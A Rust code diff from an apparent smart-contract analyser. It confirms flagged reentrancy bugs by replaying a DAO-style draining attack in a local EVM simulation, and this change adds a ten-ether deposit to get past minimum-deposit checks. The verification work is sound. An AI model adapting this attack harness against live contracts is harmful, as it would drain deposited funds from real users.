@@ -1,12 +1,13 @@
 //! The reentrancy attack run: the DAO's attack, played against the compiled contract.
 //!
 //! Another account (a victim) deposits first, so there is something to take. Then an attacker
-//! contract, written here in EVM assembly, deposits [`DEPOSIT`] through one payable function and
-//! calls the flagged function asking for that amount back. Whenever the contract pays it, the
+//! contract, written here in EVM assembly, deposits one of [`DEPOSITS`] through one payable
+//! function and calls the flagged function asking for that amount back. Whenever the contract pays it, the
 //! attacker's fallback calls the flagged function again (at most [`REENTRIES`] times). The attack
 //! worked when the attacker ends with more ether than it deposited. Every payable function is
 //! tried as the deposit, with integer arguments first set to the deposit (`deposit(amount)` that
-//! must match the value sent) and then to one (`put(lockUntil)` with a lock already passed).
+//! must match the value sent) and then to one (`put(lockUntil)` with a lock already passed); one
+//! ether first, then ten (for a minimum deposit: `if (msg.value > MinDeposit)` with one ether).
 //! A payout by `transfer` or `send` forwards 2,300 gas: the attacker cannot re-enter with it,
 //! and such a run is (rightly) not a confirmation.
 
@@ -19,23 +20,26 @@ use revm::{bytecode::Bytecode, state::AccountInfo};
 const VICTIM: Address = address!("0x00000000000000000000000000000000000b1c71");
 /// Where the attacker contract lives.
 const ATTACKER: Address = address!("0x00000000000000000000000000000000a77ac4e2");
-/// What the attacker deposits and asks back: one ether.
-pub const DEPOSIT: u128 = 1_000_000_000_000_000_000;
+/// One ether, in wei.
+const ETHER: u128 = 1_000_000_000_000_000_000;
+/// What the attacker deposits and asks back, in the order tried: one ether, then ten for
+/// contracts with a minimum above one.
+const DEPOSITS: [u128; 2] = [ETHER, 10 * ETHER];
 /// How many times the attacker re-enters before it lets the payout finish.
 const REENTRIES: u8 = 3;
 
 /// `wei` in ether, for messages: `1 ether`, `2.5 ether`.
 pub fn ether(wei: u128) -> String {
-    let whole = wei / DEPOSIT;
-    let tenths = (wei % DEPOSIT) * 10 / DEPOSIT;
+    let whole = wei / ETHER;
+    let tenths = (wei % ETHER) * 10 / ETHER;
     match tenths {
         0 => format!("{whole} ether"),
         _ => format!("{whole}.{tenths} ether"),
     }
 }
 
-/// The wei the attacker left with when the attack on `function` worked.
-pub(super) fn drained(subject: &Subject<'_>, function: &Function) -> Option<u128> {
+/// What the attacker deposited and the wei it left with, when the attack on `function` worked.
+pub(super) fn drained(subject: &Subject<'_>, function: &Function) -> Option<(u128, u128)> {
     let abi = subject.abi;
     let deposits: Vec<Option<&Function>> = abi
         .functions()
@@ -49,10 +53,12 @@ pub(super) fn drained(subject: &Subject<'_>, function: &Function) -> Option<u128
             .then_some(None),
         )
         .collect();
-    for deposit in deposits {
-        for integers in [U256::from(DEPOSIT), U256::from(1)] {
-            if let Some(taken) = attack(subject, function, deposit, integers) {
-                return Some(taken);
+    for amount in DEPOSITS {
+        for deposit in &deposits {
+            for integers in [U256::from(amount), U256::from(1)] {
+                if let Some(taken) = attack(subject, function, *deposit, amount, integers) {
+                    return Some((amount, taken));
+                }
             }
         }
     }
@@ -63,11 +69,12 @@ fn attack(
     subject: &Subject<'_>,
     function: &Function,
     deposit: Option<&Function>,
+    amount: u128,
     integers: U256,
 ) -> Option<u128> {
     let mut chain = Chain::new(&[DEPLOYER, STRANGER, VICTIM]);
     let target = chain.deploy(subject)?;
-    let withdraw = call_data(function, ATTACKER, U256::from(DEPOSIT))?;
+    let withdraw = call_data(function, ATTACKER, U256::from(amount))?;
     let runtime = attacker(target, &withdraw);
     chain.db.insert_account_info(
         ATTACKER,
@@ -85,7 +92,7 @@ fn attack(
             VICTIM,
             TxKind::Call(target),
             deposit_data(VICTIM)?,
-            U256::from(DEPOSIT),
+            U256::from(amount),
         )?;
     }
     // The attacker's own deposit, through its proxy path.
@@ -93,9 +100,9 @@ fn attack(
         STRANGER,
         TxKind::Call(ATTACKER),
         deposit_data(ATTACKER)?,
-        U256::from(DEPOSIT),
+        U256::from(amount),
     )?;
-    let put_in = if deposited.is_success() { DEPOSIT } else { 0 };
+    let put_in = if deposited.is_success() { amount } else { 0 };
     let before = chain.balance(ATTACKER);
     let attacked = chain.run(STRANGER, TxKind::Call(ATTACKER), withdraw, U256::ZERO)?;
     let reentered = chain.storage(ATTACKER, U256::ZERO) > U256::ZERO;
